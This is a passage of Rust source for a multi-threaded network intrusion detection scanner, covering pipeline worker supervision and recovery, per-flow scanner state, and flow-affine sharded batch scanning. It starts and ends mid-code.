    fn recover_worker(&mut self, worker: usize) -> bool {
        // Wait for the thread to actually finish, pumping its output so a
        // death report queued behind matches gets through, then join. The
        // join is the happens-before edge `Producer::reclaim` requires.
        loop {
            self.pump_worker(worker);
            let finished = self.workers[worker]
                .handle
                .as_ref()
                .is_none_or(|h| h.is_finished());
            if finished {
                break;
            }
            std::thread::yield_now();
        }
        if let Some(handle) = self.workers[worker].handle.take() {
            // The panic payload (if any) already surfaced as a DeathReport;
            // nothing to learn from the join result.
            let _ = handle.join();
        }
        self.pump_worker(worker);
        let died = self.workers[worker].died.take();
        let reclaimed = match self.workers[worker].jobs.take() {
            Some(mut producer) => producer.reclaim(),
            None => Vec::new(),
        };
        // Respawn at the dispatcher's current mode/epoch: any swap the dead
        // worker missed is already reflected in the fresh worker, so
        // reclaimed Swap markers below are dropped rather than replayed.
        let fresh = spawn_worker(
            WorkerConfig {
                index: worker,
                mode: self.mode.clone(),
                epoch: self.epoch,
                max_flows: self.max_flows,
                idle_after: self.idle_after,
                max_flow_buffer: self.max_flow_buffer,
                plan: self.plan.clone(),
            },
            self.ring_capacity,
        );
        // Interval counters on the control side survive the respawn.
        let shed = self.workers[worker].shed;
        let max_occupancy = self.workers[worker].max_occupancy;
        self.workers[worker] = fresh;
        self.workers[worker].shed = shed;
        self.workers[worker].max_occupancy = max_occupancy;
        let quarantined: HashSet<u64> = match died {
            Some(report) => {
                self.pending_restarts.push(WorkerRestart {
                    worker,
                    message: report.message,
                });
                let flows: HashSet<u64> = report.flows.iter().map(|&(flow, _)| flow).collect();
                for (flow, buffered_bytes) in report.flows {
                    self.pending_flow_errors.push(FlowError {
                        flow,
                        worker,
                        buffered_bytes,
                    });
                }
                flows
            }
            None => {
                self.pending_restarts.push(WorkerRestart {
                    worker,
                    message: "worker terminated without a report".to_string(),
                });
                self.lost.push(worker);
                HashSet::new()
            }
        };
        let mut flush_resent = false;
        for job in reclaimed {
            match job {
                PipeJob::Packet { ref packet, .. } if quarantined.contains(&packet.flow) => {
                    // The flow is already reported as errored; its queued
                    // packets die with it (a fresh mid-stream scanner would
                    // report wrong offsets).
                }
                job @ (PipeJob::Packet { .. } | PipeJob::CloseFlow(_)) => {
                    // Packets of non-quarantined flows had no state on the
                    // dead worker (their flow was never minted there), so
                    // replaying them starts correct fresh streams, in order.
                    self.push_job(worker, job);
                }
                PipeJob::Swap { .. } => {}
                PipeJob::Flush { token } => {
                    self.push_job(worker, PipeJob::Flush { token });
                    flush_resent = true;
                }
            }
        }
        flush_resent
    }

    /// One push attempt. `Err` returns the job iff the ring is genuinely
    /// full right now. A closed ring (dead worker) triggers recovery and a
    /// retry against the fresh ring, so callers never observe `Closed`.
    fn try_push(&mut self, worker: usize, job: PipeJob) -> Result<(), PipeJob> {
        let mut job = job;
        loop {
            let handle = &mut self.workers[worker];
            // Invariant: `jobs` is only None transiently inside
            // `recover_worker`, which never calls back into `try_push` for
            // the worker being recovered.
            let jobs = handle
                .jobs
                .as_mut()
                .expect("producer present outside recovery");
            let was_empty = jobs.is_empty();
            match jobs.push(job) {
                Ok(()) => {
                    let occupancy = jobs.len();
                    if occupancy > handle.max_occupancy {
                        handle.max_occupancy = occupancy;
                    }
                    if was_empty {
                        // The worker may be parked on an empty ring; wake it
                        // now rather than after its park timeout.
                        handle.thread.unpark();
                    }
                    return Ok(());
                }
                Err(PushError::Full(back)) => return Err(back),
                Err(PushError::Closed(back)) => {
                    job = back;
                    self.recover_worker(worker);
                }
            }
        }
    }

    /// Blocking ring push with deadlock-free backpressure: while the job
    /// ring is full, drain that worker's output ring (the worker may itself
    /// be stalled on it) and retry. Used for control jobs and for packet
    /// dispatch under the `Block` policy.
    fn push_job(&mut self, worker: usize, job: PipeJob) {
        let mut job = job;
        loop {
            match self.try_push(worker, job) {
                Ok(()) => return,
                Err(back) => {
                    job = back;
                    self.backpressure_waits += 1;
                    self.pump_worker(worker);
                    std::thread::yield_now();
                }
            }
        }
    }

    /// Drains one worker's output ring into the pending buffers.
    fn pump_worker(&mut self, worker: usize) {
        while let Some(out) = self.workers[worker].out.pop() {
            match out {
                Out::Match(m) => self.pending_matches.push(m),
                Out::Rule(r) => self.pending_rules.push(r),
                Out::Flushed(report) => self.pending_reports.push(*report),
                Out::Died(report) => self.workers[worker].died = Some(*report),
            }
        }
    }
}

impl Drop for PipelineScanner {
    fn drop(&mut self) {
        // Hang up every job ring first (workers exit after draining what's
        // buffered), then join while pumping output rings so a worker
        // stalled pushing results can finish.
        for worker in &mut self.workers {
            worker.jobs = None;
            worker.thread.unpark();
        }
        for w in 0..self.workers.len() {
            loop {
                self.pump_worker(w);
                let finished = self.workers[w]
                    .handle
                    .as_ref()
                    .is_none_or(|h| h.is_finished());
                if finished {
                    break;
                }
                std::thread::yield_now();
            }
            if let Some(handle) = self.workers[w].handle.take() {
                let _ = handle.join();
            }
        }
    }
}

/// The worker thread's state: per-flow scanners plus interval telemetry.
struct PipelineWorker {
    index: usize,
    jobs: Consumer<PipeJob>,
    out: Producer<Out>,
    mode: WorkerMode,
    epoch: u64,
    max_flows: Option<usize>,
    idle_after: Option<Duration>,
    max_flow_buffer: Option<usize>,
    plan: Arc<FaultPlan>,
    flows: HashMap<u64, FlowSlot>,
    /// seq → flow, maintained when any eviction policy is active. Push
    /// order == recency order, so the least-recently-pushed flow is the
    /// first entry and the idle sweep never looks past a fresh flow.
    recency: BTreeMap<u64, u64>,
    next_seq: u64,
    stats: MatcherStats,
    latency: LatencyHistogram,
    busy_nanos: u64,
    interval_start: Instant,
    packets: u64,
    bytes: u64,
    evicted: u64,
    /// Interval counter of bytes truncated past flow buffer caps.
    truncated: u64,
    /// Packets received over the worker's lifetime (not reset at flush) —
    /// the deterministic coordinate fault-plan triggers key on.
    lifetime_packets: u64,
    events: Vec<MatchEvent>,
    rule_events: Vec<RuleMatch>,
}

impl PipelineWorker {
    fn new(config: WorkerConfig, jobs: Consumer<PipeJob>, out: Producer<Out>) -> Self {
        PipelineWorker {
            index: config.index,
            jobs,
            out,
            mode: config.mode,
            epoch: config.epoch,
            max_flows: config.max_flows,
            idle_after: config.idle_after,
            max_flow_buffer: config.max_flow_buffer,
            plan: config.plan,
            flows: HashMap::new(),
            recency: BTreeMap::new(),
            next_seq: 0,
            stats: MatcherStats::default(),
            latency: LatencyHistogram::new(),
            busy_nanos: 0,
            interval_start: Instant::now(),
            packets: 0,
            bytes: 0,
            evicted: 0,
            truncated: 0,
            lifetime_packets: 0,
            events: Vec::new(),
            rule_events: Vec::new(),
        }
    }

    fn tracks_recency(&self) -> bool {
        self.max_flows.is_some() || self.idle_after.is_some()
    }

    fn run(mut self) {
        // Idle strategy: spin briefly (a packet is usually microseconds
        // away at line rate), then yield, then park with a timeout — the
        // dispatcher unparks on push-to-empty-ring, the timeout is the
        // safety net.
        let mut idle = 0u32;
        loop {
            match self.jobs.pop() {
                Some(job) => {
                    idle = 0;
                    if matches!(job, PipeJob::Packet { .. }) {
                        self.lifetime_packets += 1;
                        if self.plan.should_exit(self.index, self.lifetime_packets) {
                            // Injected hard crash: exit with no death
                            // report — the closed ring is the only signal
                            // (surfaced as PipelineError::WorkerLost).
                            return;
                        }
                    }
                    // Supervision: a panic anywhere in job handling (a bad
                    // engine, a poisoned flow, an injected fault) must not
                    // strand the dispatcher against a silently dead ring.
                    // AssertUnwindSafe: on Err we only read flow ids and
                    // buffer sizes for the death report, then the whole
                    // worker state is discarded.
                    let unwound =
                        std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| self.handle(job)));
                    if let Err(payload) = unwound {
                        self.report_death(panic_message(payload.as_ref()));
                        return;
                    }
                }
                None => {
                    if self.jobs.is_closed() {
                        break;
                    }
                    idle += 1;
                    if idle < 64 {
                        std::hint::spin_loop();
                    } else if idle < 128 {
                        std::thread::yield_now();
                    } else {
                        std::thread::park_timeout(Duration::from_micros(100));
                    }
                }
            }
        }
    }

    /// Last words: every resident flow dies with this worker; tell the
    /// dispatcher which ones so it can quarantine them instead of silently
    /// losing them.
    fn report_death(&mut self, message: String) {
        let mut flows: Vec<(u64, u64)> = self
            .flows
            .iter()
            .map(|(&flow, slot)| (flow, slot.scanner.buffered_bytes()))
            .collect();
        flows.sort_unstable();
        push_out(
            &mut self.out,
            Out::Died(Box::new(DeathReport { message, flows })),
        );
    }

    fn handle(&mut self, job: PipeJob) {
        let started = Instant::now();
        // The eviction clock: equal to `started` in production, offset
        // under an injected mock-clock advance. Only `last_seen`/idle
        // eviction observe it — latency and utilization stay real-time.
        let now = self.plan.clock(started);
        match job {
            PipeJob::Packet { packet, enqueued } => {
                self.plan.maybe_panic(self.index, self.lifetime_packets);
                self.sweep_idle(now);
                self.scan_packet(packet, now);
                // Latency is measured dispatch→scanned: ring wait + scan.
                self.latency.record(enqueued.elapsed().as_nanos() as u64);
            }
            PipeJob::CloseFlow(flow) => {
                if let Some(slot) = self.flows.remove(&flow) {
                    self.recency.remove(&slot.seq);
                }
            }
            PipeJob::Swap { mode, epoch } => {
                // Existing flows keep the scanners they were minted with
                // (graceful drain); only new mints see the new mode.
                self.mode = mode;
                self.epoch = epoch;
            }
            PipeJob::Flush { token } => {
                self.sweep_idle(now);
                self.flush(token, started);
            }
        }
        self.busy_nanos += started.elapsed().as_nanos() as u64;
    }

    /// Evicts flows idle past the timeout, scanning only the (push-ordered)
    /// front of the recency index.
    fn sweep_idle(&mut self, now: Instant) {
        let Some(idle_after) = self.idle_after else {
            return;
        };
        while let Some((&seq, &flow)) = self.recency.first_key_value() {
            let stale = self.flows.get(&flow).is_none_or(|slot| {
                now.checked_duration_since(slot.last_seen)
                    .is_some_and(|idle| idle >= idle_after)
            });
            if !stale {
                break;
            }
            self.recency.remove(&seq);
            if self.flows.remove(&flow).is_some() {
                self.evicted += 1;
            }
        }
    }

    fn scan_packet(&mut self, packet: Packet, now: Instant) {
        let seq = self.next_seq;
        self.next_seq += 1;
        let flow = packet.flow;
        let slot = if self.tracks_recency() {
            if let Some(slot) = self.flows.get_mut(&flow) {
                self.recency.remove(&slot.seq);
                slot.seq = seq;
                slot.last_seen = now;
            } else {
                // Same LRU semantics as the barrier scanner: at the cap, the
                // least-recently-pushed flow is retired like a close.
                if let Some(cap) = self.max_flows {
                    if self.flows.len() >= cap {
                        let (_, evicted) = self
                            .recency
                            .pop_first()
                            .expect("cap >= 1, so map is non-empty");
                        self.flows.remove(&evicted);
                        self.evicted += 1;
                    }
                }
                self.flows.insert(
                    flow,
                    FlowSlot {
                        scanner: FlowScanner::mint(&self.mode, packet.tuple, self.max_flow_buffer),
                        seq,
                        last_seen: now,
                        epoch: self.epoch,
                    },
                );
            }
            self.recency.insert(seq, flow);
            self.flows.get_mut(&flow).expect("present or just inserted")
        } else {
            let (mode, max_flow_buffer, epoch) = (&self.mode, self.max_flow_buffer, self.epoch);
            self.flows.entry(flow).or_insert_with(|| FlowSlot {
                scanner: FlowScanner::mint(mode, packet.tuple, max_flow_buffer),
                seq,
                last_seen: now,
                epoch,
            })
        };
        self.events.clear();
        self.rule_events.clear();
        // Delta accounting for the truncation counter, gated on the cap so
        // the uncapped hot path pays nothing.
        let truncated_before = if self.max_flow_buffer.is_some() {
            slot.scanner.truncated_bytes()
        } else {
            0
        };
        match &mut slot.scanner {
            FlowScanner::Plain(scanner) => scanner.push(&packet.payload, &mut self.events),
            FlowScanner::Rules(scanner) => {
                scanner.push(&packet.payload, &mut self.events, &mut self.rule_events)
            }
            FlowScanner::Grouped(scanner) => scanner.push(&packet.payload, &mut self.rule_events),
        }
        if self.max_flow_buffer.is_some() {
            self.truncated += slot.scanner.truncated_bytes() - truncated_before;
        }
        self.stats.bytes_scanned += packet.payload.len() as u64;
        // Same accounting as the barrier scanner: grouped mode counts
        // confirmed rules (group-local pattern ids would be ambiguous).
        self.stats.matches += match &slot.scanner {
            FlowScanner::Grouped(_) => self.rule_events.len() as u64,
            _ => self.events.len() as u64,
        };
        self.packets += 1;
        self.bytes += packet.payload.len() as u64;
        for event in self.events.drain(..) {
            push_out(&mut self.out, Out::Match(FlowMatch { flow, event }));
        }
        for m in self.rule_events.drain(..) {
            push_out(
                &mut self.out,
                Out::Rule(FlowRuleMatch {
                    flow,
                    rule: m.rule,
                    end: m.end,
                }),
            );
        }
    }

    fn flush(&mut self, token: u64, now: Instant) {
        let mut buffered_bytes = 0u64;
        let mut degraded_flows = 0u64;
        let mut old_epoch_flows = 0usize;
        for slot in self.flows.values() {
            buffered_bytes += slot.scanner.buffered_bytes();
            degraded_flows += u64::from(slot.scanner.degraded());
            if slot.epoch != self.epoch {
                old_epoch_flows += 1;
            }
        }
        let report = FlushReport {
            worker: self.index,
            token,
            stats: std::mem::take(&mut self.stats),
            latency: std::mem::replace(&mut self.latency, LatencyHistogram::new()),
            busy_nanos: std::mem::take(&mut self.busy_nanos),
            wall_nanos: now.duration_since(self.interval_start).as_nanos() as u64,
            packets: std::mem::take(&mut self.packets),
            bytes: std::mem::take(&mut self.bytes),
            evicted: std::mem::take(&mut self.evicted),
            resident_flows: self.flows.len(),
            old_epoch_flows,
            buffered_bytes,
            degraded_flows,
            truncated_bytes: std::mem::take(&mut self.truncated),
        };
        self.interval_start = now;
        push_out(&mut self.out, Out::Flushed(Box::new(report)));
    }
}

/// Extracts a human-readable message from a panic payload (`&str` and
/// `String` payloads cover `panic!`/`assert!`/`expect`; anything else gets
/// a placeholder).
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "worker panicked with a non-string payload".to_string()
    }
}

/// Blocking output push: the ring is bounded, so a worker outrunning the
/// collector waits here (the dispatcher's backpressure loop drains the ring,
/// so this cannot deadlock). A closed ring means the control side is gone —
/// results are dropped, the worker drains out.
fn push_out(out: &mut Producer<Out>, mut item: Out) {
    loop {
        match out.push(item) {
            Ok(()) => return,
            Err(PushError::Full(v)) => {
                item = v;
                std::thread::yield_now();
            }
            Err(PushError::Closed(_)) => return,
        }
    }
}
