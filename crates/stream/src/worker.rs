//! Shared worker machinery: the per-flow state machine and the immutable
//! compile product both multi-core harnesses scan with.
//!
//! [`WorkerMode`] is the read-only, `Arc`-shared bundle a worker thread is
//! handed at spawn (and, in the pipeline, at hot-swap): the engine(s), the
//! anchor lengths, and the rule-confirmation parts. [`FlowScanner`] is the
//! per-flow state machine minted from it — plain streaming, anchors + rule
//! confirmation, or port-grouped confirmation. The batch-oriented
//! [`crate::ShardedScanner`] and the continuously-running
//! [`crate::PipelineScanner`] share both, so a mode built once (including
//! one built off-thread for a hot-swap) drives either harness identically.

use crate::group::{GroupedEngineSet, GroupedFlowScanner};
use crate::rules::RuleStreamScanner;
use crate::stream::{SharedMatcher, StreamScanner};
use mpm_patterns::ports::FlowTuple;
use mpm_patterns::rule::RuleSet;
use mpm_patterns::PatternSet;
use mpm_verify::RuleConfirmer;
use std::sync::Arc;

/// Shared, pre-built rule-mode parts handed to every worker: one confirmer
/// and one anchor→rule mapping serve all flows on all threads.
#[derive(Clone)]
pub(crate) struct RuleParts {
    pub(crate) confirmer: Arc<RuleConfirmer>,
    pub(crate) rule_of: Arc<[u32]>,
}

/// What every worker thread scans with — the shared, read-only compile
/// product its per-flow scanners are minted from.
#[derive(Clone)]
pub(crate) enum WorkerMode {
    /// One engine for every flow: pattern-only, or (with `rules`) anchor +
    /// rule confirmation over one monolithic rule set.
    Plain {
        engine: SharedMatcher,
        lengths: Arc<[u32]>,
        rules: Option<RuleParts>,
    },
    /// Port-grouped rule scanning: each flow is scanned only against the
    /// groups its tuple selects ([`GroupedEngineSet`]).
    Grouped(Arc<GroupedEngineSet>),
}

/// Builds a plain/rule [`WorkerMode`], validating the engine/set pairing
/// once, on the caller's thread, so a mismatch panics here instead of
/// inside a worker.
pub(crate) fn plain_mode(
    engine: SharedMatcher,
    set: &PatternSet,
    rules: Option<RuleParts>,
) -> WorkerMode {
    let lengths: Arc<[u32]> = set.patterns().iter().map(|p| p.len() as u32).collect();
    let max_len = lengths.iter().copied().max().unwrap_or(0) as usize;
    assert_eq!(
        engine.max_pattern_len(),
        max_len,
        "engine was compiled for a different pattern set"
    );
    WorkerMode::Plain {
        engine,
        lengths,
        rules,
    }
}

/// Builds the shared rule-mode parts once, on the caller's thread.
pub(crate) fn rule_parts(set: &RuleSet) -> RuleParts {
    RuleParts {
        confirmer: Arc::new(RuleConfirmer::build(set)),
        rule_of: set
            .anchors()
            .rule_bindings()
            .expect("RuleSet::anchors is always rule-bound")
            .into(),
    }
}

/// SplitMix64 finalizer: decorrelates adjacent flow ids (sequential ids are
/// common in synthetic batches and would otherwise stripe unevenly).
pub(crate) fn mix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// One flow's scanning state: pattern-only, anchors + rule confirmation, or
/// port-grouped rule confirmation.
pub(crate) enum FlowScanner {
    Plain(StreamScanner),
    Rules(RuleStreamScanner),
    Grouped(GroupedFlowScanner),
}

impl FlowScanner {
    /// Mints a flow's scanner from the worker's shared mode. `tuple` is the
    /// flow's first packet's tuple; only grouped mode consults it (this is
    /// where per-flow group selection happens). `max_buffer` caps each
    /// rule-confirmation buffer (per group in grouped mode); plain mode has
    /// no flow buffer and ignores it.
    pub(crate) fn mint(
        mode: &WorkerMode,
        tuple: Option<FlowTuple>,
        max_buffer: Option<usize>,
    ) -> Self {
        match mode {
            WorkerMode::Plain {
                engine,
                lengths,
                rules,
            } => {
                let inner = StreamScanner::with_lengths(engine.clone(), lengths.clone());
                match rules {
                    Some(parts) => FlowScanner::Rules(RuleStreamScanner::with_parts(
                        inner,
                        parts.confirmer.clone(),
                        parts.rule_of.clone(),
                        None,
                        max_buffer,
                    )),
                    None => FlowScanner::Plain(inner),
                }
            }
            WorkerMode::Grouped(engines) => FlowScanner::Grouped(
                GroupedFlowScanner::with_max_buffer(engines.clone(), tuple, max_buffer),
            ),
        }
    }

    /// Bytes buffered for rule confirmation (zero for pattern-only flows
    /// and for degraded flows, whose buffers are released).
    pub(crate) fn buffered_bytes(&self) -> u64 {
        match self {
            FlowScanner::Plain(_) => 0,
            FlowScanner::Rules(s) => s.buffered_bytes() as u64,
            FlowScanner::Grouped(s) => s.buffered_bytes(),
        }
    }

    /// True once any of the flow's rule buffers exceeded the cap and the
    /// flow fell back to anchor-only reporting.
    pub(crate) fn degraded(&self) -> bool {
        match self {
            FlowScanner::Plain(_) => false,
            FlowScanner::Rules(s) => s.degraded(),
            FlowScanner::Grouped(s) => s.degraded(),
        }
    }

    /// Payload bytes never eligible for rule confirmation (past the cap).
    pub(crate) fn truncated_bytes(&self) -> u64 {
        match self {
            FlowScanner::Plain(_) => 0,
            FlowScanner::Rules(s) => s.truncated_bytes(),
            FlowScanner::Grouped(s) => s.truncated_bytes(),
        }
    }
}
