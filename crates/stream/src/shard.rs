//! [`ShardedScanner`]: fan a batch of packets out over worker threads with
//! flow-affine sharding.
//!
//! The paper's engines are single-core by design ("different hardware
//! threads can operate independently on different parts of the stream");
//! this module supplies the multi-core harness a production NIDS needs:
//!
//! * **N worker threads** (plain `std::thread` + `std::sync::mpsc`, in line
//!   with the workspace's no-external-deps policy), each draining its own
//!   queue;
//! * **flow-affine sharding** — packets of the same flow id always land on
//!   the same worker, so each flow's [`StreamScanner`](crate::StreamScanner) state (the
//!   chunk-boundary carry) lives on exactly one thread and matches that
//!   straddle packet boundaries within a flow are still found;
//! * **one shared engine** — workers clone an [`std::sync::Arc`] of the compiled
//!   matcher; the paper's cache-resident filter tables are read-only and
//!   shared, per-worker mutable state is confined to the per-flow scanners
//!   (and the engines' thread-cached `Scratch`, which is thread-local by
//!   construction);
//! * **merged, deterministic results** — [`ShardedScanner::scan_batch`]
//!   returns the union of every worker's matches sorted by
//!   `(flow, start, pattern)` plus summed [`MatcherStats`], so the same
//!   batch produces byte-identical output whether 1 or N workers ran it
//!   (property: `tests/shard_determinism.rs`);
//! * **bounded per-flow state** — [`crate::ScannerBuilder::max_flows`] caps
//!   the resident flow count with least-recently-pushed eviction (eviction
//!   retires carry state like [`ShardedScanner::close_flow`]), so a
//!   million-flow churn cannot grow memory without bound when callers do
//!   not close flows themselves.

use crate::worker::{mix64, FlowScanner, WorkerMode};
use mpm_patterns::ports::FlowTuple;
use mpm_patterns::rule::{RuleId, RuleMatch};
use mpm_patterns::{MatchEvent, MatcherStats};
use std::collections::HashMap;
use std::sync::mpsc::{self, Receiver, Sender};
use std::thread::JoinHandle;

/// One unit of work: a payload chunk belonging to a flow.
#[derive(Clone, Debug)]
pub struct Packet {
    /// Flow identifier (e.g. a 5-tuple hash). Packets with equal ids are
    /// scanned in submission order on one worker, as one logical stream.
    pub flow: u64,
    /// The payload bytes of this packet.
    pub payload: Vec<u8>,
    /// Protocol + ports of the flow, used by grouped scanning
    /// ([`crate::ScannerBuilder::groups`]) to select which port groups scan
    /// the flow. Group selection happens once per flow, from the **first**
    /// packet's tuple; tuples on later packets of the same flow are ignored
    /// (a flow's 5-tuple does not change mid-flow). `None` scans the flow
    /// against every group, exactly like a monolithic scan. Plain and rule
    /// mode ignore this field.
    pub tuple: Option<FlowTuple>,
}

impl Packet {
    /// Creates a packet with no flow tuple (grouped scanners fall back to
    /// scanning all groups for it).
    pub fn new(flow: u64, payload: impl Into<Vec<u8>>) -> Self {
        Packet {
            flow,
            payload: payload.into(),
            tuple: None,
        }
    }

    /// Creates a packet carrying the flow's protocol/port tuple (see
    /// [`Packet::tuple`]). Grouped scanning needs the tuple on the flow's
    /// **first** packet — taking it as a constructor argument (rather than
    /// a post-hoc builder) keeps a grouped scan from silently dropping it
    /// and degrading to scan-every-group.
    pub fn new_with_tuple(flow: u64, payload: impl Into<Vec<u8>>, tuple: FlowTuple) -> Self {
        Packet {
            flow,
            payload: payload.into(),
            tuple: Some(tuple),
        }
    }
}

/// A match, tagged with the flow it occurred in. `event.start` is the
/// absolute byte offset within that flow's stream.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub struct FlowMatch {
    /// The flow the pattern occurred in.
    pub flow: u64,
    /// The occurrence, with `start` in flow-stream coordinates.
    pub event: MatchEvent,
}

/// A confirmed rule, tagged with the flow it was confirmed in. `end` is the
/// minimal prefix length of that flow's stream at which the rule's
/// constraints became satisfiable (flow-stream coordinates, like
/// [`FlowMatch`]).
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub struct FlowRuleMatch {
    /// The flow the rule was confirmed in.
    pub flow: u64,
    /// The confirmed rule.
    pub rule: RuleId,
    /// Minimal satisfiable prefix length of the flow's stream.
    pub end: usize,
}

/// Result of one [`ShardedScanner::scan_batch`] call.
#[derive(Clone, Debug, Default)]
pub struct BatchResult {
    /// All matches of the batch, sorted by `(flow, start, pattern)`. In
    /// rule mode ([`crate::ScannerBuilder::rules`]) these are the anchor hits.
    pub matches: Vec<FlowMatch>,
    /// Rules confirmed during the batch, sorted by `(flow, rule, end)`;
    /// each rule at most once per flow-stream. Empty unless the scanner was
    /// built in rule mode.
    pub rule_matches: Vec<FlowRuleMatch>,
    /// Per-batch statistics summed over all workers (`bytes_scanned` and
    /// `matches` are exact and deterministic; the timing fields are zero —
    /// wall-clock belongs to the caller, who knows what overlapped).
    pub stats: MatcherStats,
    /// Flows whose stream state is resident across all workers at flush
    /// time. With a [`crate::ScannerBuilder::max_flows`] cap this never
    /// exceeds the cap (rounded up to a whole number of flows per worker).
    pub resident_flows: usize,
    /// Total bytes of rule-confirmation payload buffered across all
    /// resident flows at flush time — the gauge the
    /// [`crate::ScannerBuilder::max_flow_buffer`] cap bounds. Zero in
    /// pattern-only mode.
    pub buffered_bytes: u64,
}

enum Job {
    Packet(Packet),
    /// Drop a finished flow's stream state (see
    /// [`ShardedScanner::close_flow`]).
    CloseFlow(u64),
    /// Barrier: report everything accumulated since the last flush.
    Flush(Sender<WorkerReport>),
}

struct WorkerReport {
    matches: Vec<FlowMatch>,
    rule_matches: Vec<FlowRuleMatch>,
    stats: MatcherStats,
    resident_flows: usize,
    buffered_bytes: u64,
}

struct Worker {
    sender: Sender<Job>,
    handle: Option<JoinHandle<()>>,
}

/// Multi-core **batch** scanner with per-flow stream state: every
/// [`ShardedScanner::scan_batch`] is a dispatch followed by a full barrier.
/// This is the right harness for differential testing and batch benchmarks
/// (results arrive as one deterministic unit); a continuously-running
/// deployment wants [`crate::PipelineScanner`]
/// (`ScannerBuilder::build`), which replaces the per-batch barrier with
/// bounded rings, backpressure and latency telemetry.
///
/// ```
/// use mpm_patterns::{NaiveMatcher, PatternSet};
/// use mpm_stream::{Packet, ScannerBuilder, ShardedScanner};
/// use std::sync::Arc;
///
/// let rules = PatternSet::from_literals(&["attack"]);
/// let engine: mpm_stream::SharedMatcher = Arc::from(NaiveMatcher::new(&rules));
/// let mut scanner: ShardedScanner = ScannerBuilder::new()
///     .engine(engine, &rules)
///     .workers(4)
///     .build_barrier()
///     .expect("valid configuration");
///
/// let batch = vec![
///     Packet::new(7, b"...att".to_vec()),  // flow 7, cut inside the pattern
///     Packet::new(9, b"clean".to_vec()),
///     Packet::new(7, b"ack...".to_vec()),  // same flow => same worker
/// ];
/// let result = scanner.scan_batch(batch);
/// assert_eq!(result.matches.len(), 1);
/// assert_eq!(result.matches[0].flow, 7);
/// assert_eq!(result.matches[0].event.start, 3);
/// ```
pub struct ShardedScanner {
    workers: Vec<Worker>,
}

impl ShardedScanner {
    pub(crate) fn spawn(
        mode: WorkerMode,
        workers: usize,
        max_flows: Option<usize>,
        max_flow_buffer: Option<usize>,
    ) -> Self {
        // Invariant: `ScannerBuilder` validated the count (BuildError::ZeroWorkers).
        assert!(workers > 0, "need at least one worker");
        // The cap is split evenly; div_ceil so the total never rounds below
        // the requested bound for small caps.
        let per_worker_cap = max_flows.map(|m| m.div_ceil(workers).max(1));
        let workers = (0..workers)
            .map(|_| {
                let (sender, receiver) = mpsc::channel();
                let mode = mode.clone();
                let handle = std::thread::spawn(move || {
                    worker_loop(receiver, mode, per_worker_cap, max_flow_buffer)
                });
                Worker {
                    sender,
                    handle: Some(handle),
                }
            })
            .collect();
        ShardedScanner { workers }
    }

    /// Number of worker threads.
    pub fn workers(&self) -> usize {
        self.workers.len()
    }

    /// The worker a flow is pinned to. Deterministic for a given worker
    /// count: a flow's packets always share a worker (and therefore its
    /// per-flow stream state), and batches are reproducible run-to-run.
    pub fn worker_of(&self, flow: u64) -> usize {
        (mix64(flow) % self.workers.len() as u64) as usize
    }

    /// Scans a batch of packets across the workers and returns the merged,
    /// deterministically-ordered result.
    ///
    /// Flow stream state **persists across batches**: a pattern cut between
    /// the last packet of one batch and the first packet of the next (in the
    /// same flow) is still reported, by the later batch.
    pub fn scan_batch(&mut self, packets: impl IntoIterator<Item = Packet>) -> BatchResult {
        for packet in packets {
            let worker = self.worker_of(packet.flow);
            // Invariant: barrier workers only exit when their sender is
            // dropped in `Drop`, so a send can only fail after `self` is
            // gone. (Supervision/recovery is a pipeline-only feature; the
            // barrier stays the simple differential oracle.)
            self.workers[worker]
                .sender
                .send(Job::Packet(packet))
                .expect("worker thread alive");
        }
        self.flush()
    }

    /// Barrier: waits for every worker to drain its queue and merges what
    /// they accumulated since the last flush. [`ShardedScanner::scan_batch`]
    /// calls this; it is public for callers that dispatch packets
    /// incrementally via [`ShardedScanner::dispatch`].
    pub fn flush(&mut self) -> BatchResult {
        let (report_sender, report_receiver) = mpsc::channel();
        for worker in &self.workers {
            // Invariant: workers outlive every send (see `scan_batch`).
            worker
                .sender
                .send(Job::Flush(report_sender.clone()))
                .expect("worker thread alive");
        }
        drop(report_sender);
        let mut result = BatchResult::default();
        for report in report_receiver {
            result.matches.extend(report.matches);
            result.rule_matches.extend(report.rule_matches);
            result.stats.merge(&report.stats);
            result.resident_flows += report.resident_flows;
            result.buffered_bytes += report.buffered_bytes;
        }
        result.matches.sort_unstable();
        result.rule_matches.sort_unstable();
        result
    }

    /// Sends one packet to its flow's worker without waiting. Pair with
    /// [`ShardedScanner::flush`] to collect results.
    pub fn dispatch(&mut self, packet: Packet) {
        let worker = self.worker_of(packet.flow);
        // Invariant: workers outlive every send (see `scan_batch`).
        self.workers[worker]
            .sender
            .send(Job::Packet(packet))
            .expect("worker thread alive");
    }

    /// Retires a finished flow, freeing its per-flow stream state (carry
    /// bytes and buffers) on the owning worker.
    ///
    /// Per-flow state otherwise lives for the scanner's lifetime, which is
    /// unbounded growth under millions of short-lived flows — a long-running
    /// pipeline must close flows as connections end (on FIN/RST or an idle
    /// timeout), exactly as a NIDS retires its reassembly state. Closing is
    /// ordered with respect to packets sent earlier for the same flow;
    /// packets sent *after* start a fresh stream (offset 0, empty carry).
    /// Closing an unknown flow is a no-op.
    pub fn close_flow(&mut self, flow: u64) {
        let worker = self.worker_of(flow);
        // Invariant: workers outlive every send (see `scan_batch`).
        self.workers[worker]
            .sender
            .send(Job::CloseFlow(flow))
            .expect("worker thread alive");
    }
}

impl Drop for ShardedScanner {
    fn drop(&mut self) {
        for worker in &mut self.workers {
            // Dropping the sender ends the worker's receive loop.
            let (hangup, _) = mpsc::channel();
            let _ = std::mem::replace(&mut worker.sender, hangup);
            if let Some(handle) = worker.handle.take() {
                let _ = handle.join();
            }
        }
    }
}

/// One flow's stream state plus its recency stamp (the sequence number of
/// the flow's latest packet on this worker).
struct FlowSlot {
    scanner: FlowScanner,
    seq: u64,
}

fn worker_loop(
    receiver: Receiver<Job>,
    mode: WorkerMode,
